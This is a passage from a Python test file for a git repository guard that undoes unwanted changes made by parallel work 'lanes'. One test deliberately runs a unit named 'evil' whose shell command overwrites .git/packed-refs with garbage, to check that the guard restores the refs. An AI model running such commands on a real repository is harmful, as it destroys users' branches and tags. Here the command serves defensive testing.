    assert git(repo, "status", "--porcelain") == ""


def test_the_index_of_a_worktree_whose_git_dir_lies_elsewhere_is_watched(tmp_path: Path) -> None:
    """``git init --separate-git-dir``: the user's worktree has a ``.git`` file. Its index
    is watched through the git dir the integrator moves it with."""
    repo = tmp_path / "repo"
    repo.mkdir()
    store = tmp_path / "store.git"
    git(repo, "init", "-q", "-b", "main", f"--separate-git-dir={store}")
    (repo / "README.md").write_text("hi\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "-q", "-m", "initial")
    guard = RepoGuard(Git(store), own_refs=OWN, ignore_refs=["refs/heads/main"])
    guard.snapshot(index_of=repo)
    as_lane(repo, 'echo x > "$REPO/new.txt" && git -C "$REPO" add new.txt')
    assert guard.restore() == [f"index of {repo}: staged changes to new.txt"]
    assert git(repo, "diff", "--cached", "--name-only") == ""


def test_a_lane_that_garbles_packed_refs_breaks_neither_the_run_nor_the_repository(
        repo: Path, write_plan: Callable[..., Path]) -> None:
    """After the lane, git can read no ref (the user's packed branches and tags are
    gone, and every git command fails). The guard puts packed-refs back; the user's
    refs, the target and the units' refs survive, and only the lane's unit fails."""
    git(repo, "tag", "v1")
    git(repo, "branch", "feature")
    git(repo, "pack-refs", "--all")
    before = repo_state(repo, landed=True)
    code, summary, stderr = run_json(repo, write_plan(three_units(
        'echo garbage > "$WTMESH_REPO/.git/packed-refs"')))
    assert code == 1, stderr
    evil = unit_of(summary, "evil")
    assert (evil["status"], evil["failure_code"]) == ("failed", "safety_regression_risk")
    notes = next(e["notes"] for e in ledger(repo, summary["run_id"])
                 if e["event"] == "unit_finished" and e["unit"] == "evil")
    assert "refs cannot be read" in notes and "all of it was undone" in notes, notes
    assert [unit_of(summary, u)["status"] for u in ("a", "c")] == ["integrated"] * 2
    assert git(repo, "rev-parse", "main") == summary["head"]
    assert repo_state(repo, landed=True) == before
